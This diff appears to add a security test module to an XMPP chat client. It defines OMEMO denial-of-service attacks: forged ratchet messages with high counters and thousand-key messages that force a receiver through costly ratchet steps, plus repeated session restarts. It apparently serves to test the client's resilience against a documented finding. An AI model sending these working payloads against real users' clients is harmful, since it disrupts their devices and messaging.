@@ -1,0 +1,94 @@
+/**
+ * Attack class "OMEMO", over a session that there really is: a message whose ratchet key and counter are forged costs
+ * the receiver up to 25,000 steps of the ratchet before its tag shows that it is forged (finding 7).
+ */
+import xml, { type Element } from "@xmpp/xml";
+import type { BareJid } from "../../../shared/jid.ts";
+import { newKeyPair } from "../../../electron/omemo/curve.ts";
+import { encrypted, OmemoPeer } from "../../peers/omemo-peer.ts";
+import { publishedDevices } from "../../peers/omemo-nodes.ts";
+import type { Attack, Scene } from "../attack.ts";
+
+/** As far ahead as a receiver may have to go. */
+const FAR = 24_999;
+const FORGED = 100;
+
+/** Of protobuf (base 128). */
+function varint(value: number): Uint8Array {
+  const bytes: number[] = [];
+  for (; value >= 128; value = Math.floor(value / 128)) bytes.push((value % 128) | 128);
+  return Uint8Array.from([...bytes, value]);
+}
+
+/** A WhisperMessage with a new ratchet key, and nothing behind it that is right. */
+const forgedKey = (counter: number): Uint8Array =>
+  Buffer.concat([
+    Uint8Array.of(0x33, 0x0a, 33),
+    newKeyPair().publicKey,
+    Uint8Array.of(0x10),
+    varint(counter),
+    Uint8Array.of(0x18),
+    varint(0),
+    Uint8Array.of(0x22, 48),
+    new Uint8Array(48 + 8),
+  ]);
+
+/** The hostile account has a real device and a real session with each of the victim's. */
+async function withSession(
+  { server, victim, evil }: Scene,
+  work: (peer: OmemoPeer, devices: number[]) => Promise<void>,
+): Promise<void> {
+  const peer = await OmemoPeer.connect({
+    jid: evil.jid,
+    password: evil.password,
+    resource: `omemo-${crypto.randomUUID()}`,
+    server,
+  });
+  try {
+    await peer.publish();
+    const devices = await publishedDevices(peer.peer, victim.jid);
+    if (devices.length === 0) return;
+    await peer.say(victim.jid as BareJid, "honest");
+    await work(peer, devices);
+    // A flood is with the server only when it has answered what came behind it.
+    await peer.peer.request(xml("iq", { type: "get", id: crypto.randomUUID() }, xml("ping", "urn:xmpp:ping")));
+  } finally {
+    await peer.peer.stop();
+  }
+}
+
+const forged = (peer: OmemoPeer, rid: number, counter: number, keys: number): Element =>
+  encrypted({
+    sid: peer.id,
+    keys: Array.from({ length: keys }, () => ({ rid, prekey: false, data: forgedKey(counter) })),
+    iv: new Uint8Array(12),
+    payload: new Uint8Array(17),
+  });
+
+export const omemo: Attack[] = [
+  {
+    name: `${FORGED} forged messages over a real session, each with a counter of ${FAR}`,
+    where: "direct message",
+    send: (scene) =>
+      withSession(scene, async (peer, devices) => {
+        for (let count = 0; count < FORGED; count++) {
+          for (const device of devices) await peer.send(scene.victim.jid as BareJid, forged(peer, device, FAR, 1));
+        }
+      }),
+  },
+  {
+    name: "a forged message with a thousand keys for the same device",
+    where: "direct message",
+    send: (scene) =>
+      withSession(scene, async (peer, devices) => {
+        for (const device of devices) await peer.send(scene.victim.jid as BareJid, forged(peer, device, FAR, 1_000));
+      }),
+  },
+  {
+    name: "20 sessions that begin anew",
+    where: "direct message",
+    send: async (scene) => {
+      for (let count = 0; count < 20; count++) await withSession(scene, () => Promise.resolve());
+    },
+  },
+];
